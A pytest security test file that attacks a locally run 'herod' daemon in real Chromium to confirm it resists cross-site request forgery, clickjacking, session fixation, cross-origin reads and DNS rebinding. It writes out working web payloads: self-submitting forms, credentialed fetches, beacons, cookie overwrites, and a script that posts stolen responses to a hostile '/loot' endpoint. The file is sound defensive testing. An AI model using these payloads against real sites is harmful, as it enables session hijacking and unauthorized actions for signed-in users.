"""Hostile pages in a browser that is signed in, in real Chromium: they change nothing and steal no session.

They come from another port of the same host, whose server gets herod's cookie with every request and may set it, and
from another host. The daemon is real. The tests check its audit log, which must contain no change, and what the
hostile server received, which must not contain the ticket.
"""

import json
import re
import threading
from collections.abc import Iterator
from contextlib import ExitStack
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any
from urllib.parse import parse_qs, quote, urlencode, urlsplit

import pytest
from playwright.sync_api import Browser, Page

from support.chromium import ADMIN, PASSWORD, Person, ask, chromium, person
from support.real_daemon import Daemon, free_port, running

EVE = "eve@example.org"


@dataclass
class Hostile:
    """A hostile server on another port that keeps what it receives."""

    port: int
    pages: dict[str, str] = field(default_factory=dict)
    loot: list[str] = field(default_factory=list)

    @property
    def neighbour(self) -> str:
        """Its address as another port of the daemon's host: the same site, to browsers."""
        return f"http://127.0.0.1:{self.port}"

    @property
    def stranger(self) -> str:
        """Its address as another site."""
        return f"http://localhost:{self.port}"


@pytest.fixture(scope="module")
def hostile() -> Iterator[Hostile]:
    """A hostile server for the whole module."""

    class Answer(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            made.loot.append(f"{self.path} {self.headers}")
            body = made.pages.get(urlsplit(self.path).path, "").encode()
            self.send_response(200)
            self.send_header("Content-Type", "text/html; charset=utf-8")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def do_POST(self) -> None:
            length = int(self.headers.get("Content-Length", "0"))
            made.loot.append(f"{self.path} {self.headers} {self.rfile.read(length).decode(errors='replace')}")
            self.send_response(204)
            self.end_headers()

        def log_message(self, *_: object) -> None:
            """Do not log."""

    server = ThreadingHTTPServer(("127.0.0.1", 0), Answer)
    made = Hostile(server.server_address[1])
    thread = threading.Thread(target=server.serve_forever)
    thread.start()
    yield made
    server.shutdown()
    thread.join()
    server.server_close()


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    """Chromium; without it these tests are skipped."""
    with chromium() as started:
        yield started


@pytest.fixture(scope="module")
def daemon(tmp_path_factory: pytest.TempPathFactory, browser: Browser) -> Iterator[Daemon]:
    """A daemon with an admin, and Eve with scope read."""
    with running(tmp_path_factory.mktemp("daemon")) as started:
        ask(
            started,
            ("users.add", {"email": ADMIN, "name": "Ada Lovelace", "scope": "admin", "password": PASSWORD}),
            ("users.add", {"email": EVE, "name": "Eve", "scope": "read", "password": PASSWORD}),
        )
        yield started


@pytest.fixture
def victim(browser: Browser, daemon: Daemon) -> Iterator[Person]:
    """The admin, signed in."""
    with person(browser, daemon) as ada:
        ada.sign_in()
        yield ada


def changes(daemon: Daemon) -> list[Any]:
    """Successful operations in the audit log, except the tests' own."""
    rows = ask(daemon, ("audit.list", {"limit": 200}))[0]["items"]
    return [row["seq"] for row in rows if row["outcome"] == "ok" and row["operation"] != "session.code"]


def eves_session(browser: Browser, daemon: Daemon) -> tuple[str, str]:
    """The cookie and the ticket of a session of Eve's."""
    with person(browser, daemon) as eve:
        eve.sign_in(EVE)
        (cookie,) = eve.context.cookies()
        return str(cookie["value"]), parse_qs(urlsplit(eve.page.url).query)["ticket"][0]


def eves_code(daemon: Daemon) -> str:
    """A code that would open a session of another user than the victim."""
    (made,) = ask(daemon, ("session.code", {}))
    return str(made["code"])


def form(action: str, fields: dict[str, str], encoding: str = "application/x-www-form-urlencoded") -> str:
    """A page that submits a form by itself."""
    inputs = "".join(f"<input name='{name}' value='{value}'>" for name, value in fields.items())
    return f"<form id=f method=post action='{action}' enctype='{encoding}'>{inputs}</form><script>f.submit()</script>"


def script(body: str) -> str:
    """A page that runs a script, sends home its result, and marks itself done."""
    return (
        "<script>const home = (what) => fetch('/loot', {method: 'POST', body: String(what)});"
        f"(async () => {{ try {{ {body} }} catch (error) {{ await home('refused ' + error); }}"
        "document.title = 'done'; })()</script>"
    )


def send(url: str, method: str, body: str, kind: str, *, mode: str) -> str:
    """A page that sends a request with the user's cookies."""
    options = {"method": method, "mode": mode, "credentials": "include"}
    if method != "GET":
        options |= {"body": body}
    header = f", headers: {{'Content-Type': '{kind}'}}"
    return script(
        f"const answer = await fetch('{url}', {{...{json.dumps(options)}{header if method != 'GET' else ''}}});"
        "await home(await answer.text());"
    )


def app_request(daemon: Daemon) -> dict[str, str]:
    """What an app that Eve registered asks for, as anybody may."""
    app = {"client_name": "Claude Code", "redirect_uris": ["http://127.0.0.1/cb"], "token_endpoint_auth_method": "none"}
    client_id = daemon.curl("/oauth/register", "--json", json.dumps(app))[1]["client_id"]
    return {
        "client_id": client_id, "redirect_uri": "http://127.0.0.1/cb", "response_type": "code", "scope": "read",
        "resource": f"{daemon.url}/mcp", "code_challenge": "E9Melhoa2OwvFrEMTJguCHaoeK1t8URWbuGJSstw-cM",
        "code_challenge_method": "S256",
    }  # fmt: skip


def attacks(url: str, daemon: Daemon, eve: tuple[str, str]) -> dict[str, str]:
    """The hostile pages by name."""
    half, ticket = eve
    asking = f"/authorize?{urlencode(app_request(daemon))}"
    sealed = parse_qs(urlsplit(daemon.curl(asking, tcp=True)[2]["location"]).query)["request"][0]
    allow = {"request": sealed, "decision": "allow", "scope:read": "on", "is_mine": "on"}
    call = '{"jsonrpc":"2.0","id":1,"method":"peers.allow","params":{"uid":4711,"scope":"admin"}}'
    rule = {"by": "uid", "who": "4711", "scope:admin": "on"}
    return {
        "a form that signs in as Eve": form(f"{url}/ui/sign-in", {"email": EVE, "password": PASSWORD}),
        "a form that signs in with a key": form(f"{url}/ui/sign-in/key", {"key": "herod_s_x"}),
        "a form that signs out": form(f"{url}/ui/sign-out", {}),
        "a form with a code": form(f"{url}/ui/code", {"code": eves_code(daemon)}),
        "a form that makes a rule": form(f"{url}/ui/peers", rule),
        "a form with Eve's ticket": form(f"{url}/ui/peers", {**rule, "ticket": ticket}),
        "a form with the cookie's half as ticket": form(f"{url}/ui/peers", {**rule, "ticket": half}),
        "a form that consents": form(f"{url}/ui/consent", allow),
        "a form that consents with Eve's ticket": form(f"{url}/ui/consent", {**allow, "ticket": ticket}),
        "fetch that consents": send(f"{url}/ui/consent", "POST", urlencode(allow), FORM, mode="no-cors"),
        "a form that lets a terminal in": form(f"{url}/ui/device", {**allow, "ticket": ticket}),
        "a form that approves": form(f"{url}/ui/approvals/x/decide", {"approve": "true", "ticket": ticket}),
        "a form that sets an authenticator app up": form(f"{url}/ui/account/app", {"otp": "123456", "ticket": ticket}),
        "a form that goes on with the session": form(f"{url}/ui/resume", {"proof": "x"}),
        "the question in a frame": script(
            "const frame = document.createElement('iframe');"
            f"frame.src = '{url}{asking}'; const loaded = new Promise((after) => (frame.onload = after));"
            "document.documentElement.append(frame); await loaded; await home(frame.contentDocument);"
        ),
        "a form for the first admin": form(f"{url}/ui/first-run", {"code": "x", "email": EVE, "password": PASSWORD}),
        "a form of text to JSON-RPC": form(f"{url}/", {call: ""}, "text/plain"),
        "fetch of text to JSON-RPC": send(f"{url}/rpc", "POST", call, "text/plain", mode="no-cors"),
        "fetch of JSON to JSON-RPC": send(f"{url}/rpc", "POST", call, "application/json", mode="cors"),
        "fetch of JSON to REST": send(f"{url}/api/v1/peers", "POST", '{"uid":1}', "application/json", mode="cors"),
        "fetch with DELETE": send(f"{url}/api/v1/users/x", "DELETE", "", "text/plain", mode="cors"),
        "fetch of a form": send(f"{url}/ui/peers", "POST", "by=uid&who=1", "text/plain", mode="no-cors"),
        "reading a page": send(f"{url}/ui/home", "GET", "", "", mode="cors"),
        "reading a page with Eve's ticket": send(f"{url}/ui/home?ticket={ticket}", "GET", "", "", mode="cors"),
        "a beacon": script(f"navigator.sendBeacon('{url}/rpc', '{call}');"),
        "a page as a script, a style and a picture": script(
            "await Promise.all(['script', 'link', 'img'].map((kind) => new Promise((after) => {"
            " const node = document.createElement(kind); node.onload = node.onerror = after; node.rel = 'stylesheet';"
            f" node.src = node.href = '{url}/ui/home?' + kind; document.head.append(node); }})));"
            "await home(document.styleSheets.length);"
        ),
        "a WebSocket": script(
            f"await new Promise((after) => {{ const wire = new WebSocket('{url}/ui/home'.replace('http', 'ws'));"
            " wire.onopen = wire.onerror = after; });"
        ),
        "a window of its own": script(f"const view = window.open('{url}/ui/home'); await home(view.document.body);"),
        "a frame": script(
            "const frame = document.createElement('iframe');"
            f"frame.src = '{url}/ui/home'; const loaded = new Promise((after) => (frame.onload = after));"
            "document.documentElement.append(frame); await loaded; await home(frame.contentDocument);"
        ),
        LEADS_HOME: (
            f"<script>document.cookie = 'herod_session={half}; path=/ui';"
            f"location = '{url}/ui/home?ticket={ticket}'</script>"
        ),
        "an address with a code": f"<script>location = '{url}/ui/code?code={eves_code(daemon)}'</script>",
    }


FORM = "application/x-www-form-urlencoded"
LEADS_HOME = "a cookie over ours, and a link"
# Browsers treat these alike from any origin.
SITELESS = {
    "a form with the cookie's half as ticket", "a form that signs in with a key", "a form of text to JSON-RPC",
    "fetch with DELETE", "fetch of JSON to REST", "a WebSocket", "a beacon", "reading a page with Eve's ticket",
}  # fmt: skip


def visit(page: Page, hostile: Hostile, origin: str, attack: str, herod: str) -> None:
    """Open a hostile page, and wait until it is done."""
    hostile.pages["/attack"] = attack
    leads_away = "f.submit()" in attack or "location = " in attack
    page.goto(f"{origin}/attack", wait_until="commit")
    if "document.cookie" in attack:
        page.wait_for_url(f"{herod}/ui/home?ticket=*", wait_until="load")
    elif leads_away:
        page.wait_for_url(f"{herod}/**", wait_until="load")
    else:
        page.wait_for_function("document.title === 'done'")


@pytest.mark.parametrize("place", ["neighbour", "stranger"])
def test_hostile_pages(browser: Browser, daemon: Daemon, hostile: Hostile, victim: Person, place: str) -> None:
    """Each attack changes nothing, reads nothing, and leaves the victim signed in."""
    eve = eves_session(browser, daemon)
    ticket = parse_qs(urlsplit(victim.page.url).query)["ticket"][0]
    origin = str(getattr(hostile, place))
    tried = attacks(daemon.url, daemon, eve)
    if place == "stranger":
        tried = {name: attack for name, attack in tried.items() if name not in SITELESS}
    before = changes(daemon)
    page = victim.context.new_page()
    for name, attack in tried.items():
        visit(page, hostile, origin, attack, daemon.url)
        shown = page.content()
        if name == LEADS_HOME:  # into her own session, in a window that the hostile page has left
            assert page.get_by_role("link", name="Ada Lovelace").count(), name
            assert "Eve" not in shown, name
        else:
            assert "Ada Lovelace" not in shown, name
            assert "Sign out" not in shown, name
        assert changes(daemon) == before, name
    assert len(tried) >= 15  # from two sources: over 30 attempts
    victim.page.reload()
    victim.heading("Overview")
    assert victim.page.get_by_text("Ada Lovelace").count()
    loot = "\n".join(hostile.loot)
    assert ticket not in loot
    assert "Ada Lovelace" not in loot
    if place == "neighbour":  # it has the cookie, as browsers send it
        half = next(one["value"] for one in victim.context.cookies() if one["value"] != eve[0])
        assert half in loot
        status, page_, _ = daemon.curl(f"/ui/home?ticket={eve[1]}", "-H", f"Cookie: herod_session={half}", tcp=True)
        assert status != 200
        assert b"Ada" not in page_


def test_a_code_that_somebody_slipped_in(browser: Browser, daemon: Daemon, hostile: Hostile, victim: Person) -> None:
    """The page says whose session a code would open, and a key press does not open it."""
    page = victim.context.new_page()
    address = f"{daemon.url}/ui/code?code={eves_code(daemon)}"
    visit(page, hostile, hostile.stranger, f"<script>location = '{address}'</script>", daemon.url)
    assert page.get_by_role("heading", level=1).inner_text() == "Continue as local admin?"
    for key in ("Enter", "Space"):
        page.keyboard.press(key)
    assert page.url == address
    victim.page.reload()
    assert victim.page.get_by_text("Ada Lovelace").count()


def test_a_question_that_somebody_slipped_in(daemon: Daemon, hostile: Hostile, victim: Person) -> None:
    """A form of a hostile page, with a decision in it, leads to the question; neither that nor a key press decides."""
    fields = {**app_request(daemon), "decision": "allow", "scope:read": "on", "approve": "true"}
    before = changes(daemon)
    page = victim.context.new_page()
    hostile.pages["/attack"] = form(f"{daemon.url}/authorize", fields)
    page.goto(f"{hostile.stranger}/attack", wait_until="commit")
    page.get_by_role("heading", level=1, name="Let “Claude Code” act for you?").wait_for()
    address = page.url
    for key in ("Enter", "Space"):
        page.keyboard.press(key)
    assert page.url == address
    assert page.get_by_role("button", name="Allow").count()
    assert changes(daemon) == before
    assert ask(daemon, ("delegations.list", {}))[0]["items"] == []


HOSTING = """
<iframe id=herod src="%s"></iframe>
<script>
  const say = (theme, type = "theme") => herod.contentWindow.postMessage({type, theme}, "*");
  herod.onload = () => (document.title = "loaded");
</script>
"""


@pytest.fixture(scope="module")
def hosted(tmp_path_factory: pytest.TempPathFactory, hostile: Hostile) -> Iterator[Daemon]:
    """A daemon whose pages may be framed by one origin."""
    with running(tmp_path_factory.mktemp("hosted"), HEROD_FRAME_ORIGINS=hostile.neighbour) as started:
        ask(started, ("users.add", {"email": ADMIN, "name": "Ada Lovelace", "scope": "admin", "password": PASSWORD}))
        yield started


def theme_of(page: Page) -> str | None:
    """The theme of the framed page."""
    worn: str | None = page.frames[1].evaluate("document.documentElement.dataset.theme || null")
    return worn


def test_a_listed_page_may_frame_and_say_its_theme(browser: Browser, hosted: Daemon, hostile: Hostile) -> None:
    """An allowed page sets the theme, which persists over pages; one signs in in a tab, never in the frame."""
    with ExitStack() as stack:
        page = stack.enter_context(browser.new_context()).new_page()
        hostile.pages["/host"] = HOSTING % f"{hosted.url}/"
        page.goto(f"{hostile.neighbour}/host")
        page.wait_for_function("document.title === 'loaded'")
        frame = page.frames[1]
        assert frame.get_by_role("heading", name="Open herod in a tab of its own").count()
        assert not frame.locator("form").count()
        assert theme_of(page) is None
        for theme in ("light", "dark", "light"):
            page.evaluate("theme => say(theme)", theme)
            frame.wait_for_function("theme => document.documentElement.dataset.theme === theme", arg=theme)
        page.evaluate("say('dark', 'another')")
        frame.goto(f"{hosted.url}/ui/keys")
        assert theme_of(page) == "light"
        with page.context.expect_page() as opened:
            page.frames[1].get_by_role("link", name="Open herod").click()
        tab = opened.value
        tab.get_by_label("Email").fill(ADMIN)
        tab.get_by_label("Password").fill(PASSWORD)
        tab.get_by_role("button", name="Sign in", exact=True).first.click()
        tab.get_by_role("heading", level=1, name="Keys").wait_for()
        # Signed in elsewhere or not: a frame never goes on with the session.
        for path in ("/", "/ui/home"):
            page.frames[1].goto(hosted.url + path)
            page.frames[1].get_by_role("heading", name="Open herod in a tab of its own").wait_for()


def test_no_other_page_may_frame(browser: Browser, hosted: Daemon, hostile: Hostile) -> None:
    """An origin that is not listed gets an empty frame, and a listed one cannot pose as another."""
    hostile.pages["/host"] = HOSTING % f"{hosted.url}/"
    with ExitStack() as stack:
        page = stack.enter_context(browser.new_context()).new_page()
        page.goto(f"{hostile.stranger}/host")
        page.wait_for_function("document.title === 'loaded'")
        assert page.frames[1].url.startswith("chrome-error:")


def test_framing_headers(daemon: Daemon, hosted: Daemon, hostile: Hostile) -> None:
    """Framing is denied by both headers, or allowed by the one that can name an origin."""
    for path in ("/", "/ui/sign-in", "/ui/nothing"):
        for one in (daemon, hosted):  # pages to sign in on are never in a frame
            _, _, headers = one.curl(path)
            assert re.search(r"frame-ancestors 'none'(;|$)", headers["content-security-policy"])
            assert headers["x-frame-options"] == "DENY"
    _, _, headers = hosted.curl("/", "-H", "Sec-Fetch-Dest: iframe")
    assert f"frame-ancestors {hostile.neighbour}" in headers["content-security-policy"]
    assert "x-frame-options" not in headers
    _, _, headers = hosted.curl("/health")
    assert "frame-ancestors 'none'" in headers["content-security-policy"]


def test_other_hosts_and_ports(daemon: Daemon) -> None:
    """Foreign hosts (DNS rebinding) and foreign origins are refused before routing."""
    other = free_port()
    for host in ("evil.test", f"evil.test:{daemon.port}", "127.0.0.1.evil.test", "127.0.0.2", ""):
        assert daemon.curl("/", "-H", f"Host: {host}" if host else "Host;", tcp=True)[0] in (400, 421), host
    for origin in (
        f"http://127.0.0.1:{other}",
        "http://localhost",
        "null",
        "file://",
        f"https://127.0.0.1:{daemon.port}",
    ):
        data = ("-d", f"email={quote(EVE)}&password={quote(PASSWORD)}", "-H", f"Origin: {origin}")
        status, _, headers = daemon.curl("/ui/sign-in", *data, tcp=True)
        assert status == 403, origin
        assert "set-cookie" not in headers
